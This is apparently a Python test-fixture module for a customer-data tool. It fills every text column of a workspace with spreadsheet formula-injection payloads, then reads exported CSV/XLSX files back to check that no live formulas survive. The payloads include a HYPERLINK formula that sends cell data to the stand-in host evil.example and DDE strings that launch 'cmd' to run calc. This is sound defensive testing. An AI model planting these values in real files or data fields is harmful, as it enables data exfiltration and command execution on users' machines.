"""Formula payloads for the export attack tests: the payloads, the check of a cell, a
workspace whose every text column carries them, and how to read a written file back.

Shared by ``tests/test_export.py``, ``tests/test_export_attacks.py`` (every CLI ``--out``) and
``tests/app/test_downloads.py`` (every app download).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

from openpyxl import load_workbook

from cimlab.customers.tags import add_tags
from cimlab.identity import resolve
from cimlab.ingest.importer import check_bytes, store_report
from cimlab.workspace import Workspace

__all__ = [
    "AS_OF",
    "CHANNEL",
    "PAYLOADS",
    "attack_orders",
    "build_attacked_workspace",
    "buyer_orders",
    "cells",
    "customer_ids",
    "live_formula",
]

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=2+2",
    "  =1+1",
    "=1+1",
]
CHANNEL = "=cmd|' /C calc'!A0"  # written into the database past the import contract
NUMBER = re.compile(r"^[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$")
AS_OF = "2026-06-30"
PEOPLE = 24  # clusters need 20 customers


def live_formula(cell: object) -> bool:
    """Whether a spreadsheet could run ``cell`` (starts with ``= + - @``, tab or CR; not a
    plain number)."""
    if not isinstance(cell, str) or NUMBER.match(cell.strip()):
        return False
    return cell[:1] in ("\t", "\r") or cell.lstrip(" \n")[:1] in ("=", "+", "-", "@")


def payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def _csv(rows: list[list[object]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode()


def customer_ids() -> list[str]:
    return [f"{payload(i)}{i}" for i in range(PEOPLE)]  # Tmall nicknames are buyer-chosen


def _customers(channel: str) -> bytes:
    rows: list[list[object]] = [["customer_id", "name", "city", "company", "tags"]]
    rows += [[c, payload(i + 1), payload(i + 2), payload(i + 3), payload(i + 4)]
             for i, c in enumerate(customer_ids())]  # fmt: skip
    return _csv(rows)


def attack_orders(*, bad_rows: bool = False) -> bytes:
    header = ["order_id", "line", "customer_id", "order_date", "sku", "product_name"]
    header += ["category", "amount", "currency", "status"]
    rows: list[list[object]] = [header]
    start = dt.date(2026, 1, 5)
    for i, customer in enumerate(customer_ids()):
        for k in range(1 + i % 4):
            day = start + dt.timedelta(days=11 * k + i)
            order = f"{payload(i + k)}O{i}-{k}"
            for line in (1, 2):
                sku = payload(i + k + line)
                rows.append([order, line, customer, f"{day} 10:00", f"{sku}S{line + k % 2}",
                             payload(line + k), payload(k), 10 + 7 * i + line, "CNY", "paid"])  # fmt: skip
    if bad_rows:  # rejected rows: quarantined as written, with an extra payload column
        rows = [[*r, "extra"] for r in rows]
        rows[0][-1] = "@SUM(A1)"
        rows.append([payload(0), 1, payload(1), "2026-02-30 10:00", *PAYLOADS[:6], "x"])
        rows.append([payload(2), 1, payload(3), "not a date", *PAYLOADS[1:7], payload(4)])
    return _csv(rows)


def buyer_orders(people: int = 300, seed: int = 7) -> bytes:
    """Order lines of ``people`` buyers with payload ids over the year before :data:`AS_OF`:
    each buys at their own rate and some stop buying, so the predict models (CLV, churn) have
    repeat buyers, churners and stayers to fit on."""
    import random

    rng = random.Random(seed)
    end = dt.date.fromisoformat(AS_OF)
    rows: list[list[object]] = [
        ["order_id", "line", "customer_id", "order_date", "amount", "currency", "status"]
    ]
    for i in range(people):
        customer = f"{payload(i)}B{i}"
        day = end - dt.timedelta(days=rng.randint(200, 365))
        stop = day + dt.timedelta(days=rng.randint(20, 500))
        gap = rng.uniform(10, 80)
        k = 0
        while day <= min(stop, end):
            rows.append([f"B{i}-{k}", 1, customer, f"{day} 12:00", 20 + i % 50, "CNY", "paid"])
            day += dt.timedelta(days=max(1, round(rng.expovariate(1 / gap))))
            k += 1
    return _csv(rows)


def _feedback() -> bytes:
    rows: list[list[object]] = [["customer_id", "ts", "nps", "text"]]
    rows += [
        [c, f"2026-0{1 + i % 5}-15 09:00", i % 11, payload(i)] for i, c in enumerate(customer_ids())
    ]
    return _csv(rows)


def _interactions() -> bytes:
    rows: list[list[object]] = [["customer_id", "ts", "type", "note"]]
    rows += [[c, "2026-03-02 09:00", "complaint", payload(i)] for i, c in enumerate(customer_ids())]
    return _csv(rows)


def _store(ws: Workspace, data: bytes, *, table: str, channel: str, name: str) -> int:
    report = check_bytes(data, name=name, table=table, channel=channel)
    return store_report(ws, report).batch.batch_id


def build_attacked_workspace(folder: Path) -> tuple[Path, int]:
    """A resolved workspace in ``folder`` whose text carries formula payloads (ids, names,
    cities, companies, tags, products, SKUs, categories, channels, feedback and notes), and
    the batch whose quarantined rows carry them too."""
    ws = Workspace.open(folder)
    for channel in ("shop", "store"):
        _store(ws, _customers(channel), table="customers", channel=channel, name=f"{channel}.csv")
    _store(ws, attack_orders(), table="orders", channel="shop", name="orders.csv")
    _store(ws, _feedback(), table="feedback", channel="shop", name="feedback.csv")
    _store(ws, _interactions(), table="interactions", channel="shop", name="calls.csv")
    batch = _store(
        ws, attack_orders(bad_rows=True), table="orders", channel="store", name="bad.csv"
    )
    assert ws.quarantine(batch).height >= 2
    with ws.transaction() as con:  # a channel the contract would refuse, as a legacy file has
        for table in ("customers", "orders"):
            con.execute(f"UPDATE {table} SET channel = ? WHERE channel = 'store'", [CHANNEL])
        con.execute("UPDATE feedback SET channel = ? WHERE nps > 5", [CHANNEL])
    resolve(ws, at=dt.datetime(2026, 7, 1, tzinfo=dt.UTC))
    [first] = ws.query("SELECT min(customer_id) AS c FROM identity_map")["c"].to_list()
    add_tags(ws, first, PAYLOADS[:3], at=dt.datetime(2026, 7, 1, tzinfo=dt.UTC), user="test")
    return ws.path, batch


def cells(path: Path) -> list[object]:
    """Every cell of a written CSV (parsed back) or XLSX (openpyxl), headers included."""
    data = path.read_bytes()
    if path.suffix == ".xlsx":
        assert data[:2] == b"PK", f"{path.name} is not a workbook"
        book = load_workbook(io.BytesIO(data))
        found = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in found), path.name
        return [c.value for c in found]
    assert data.startswith("\ufeff".encode()), f"{path.name} has no BOM"
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [c for row in rows for c in row]
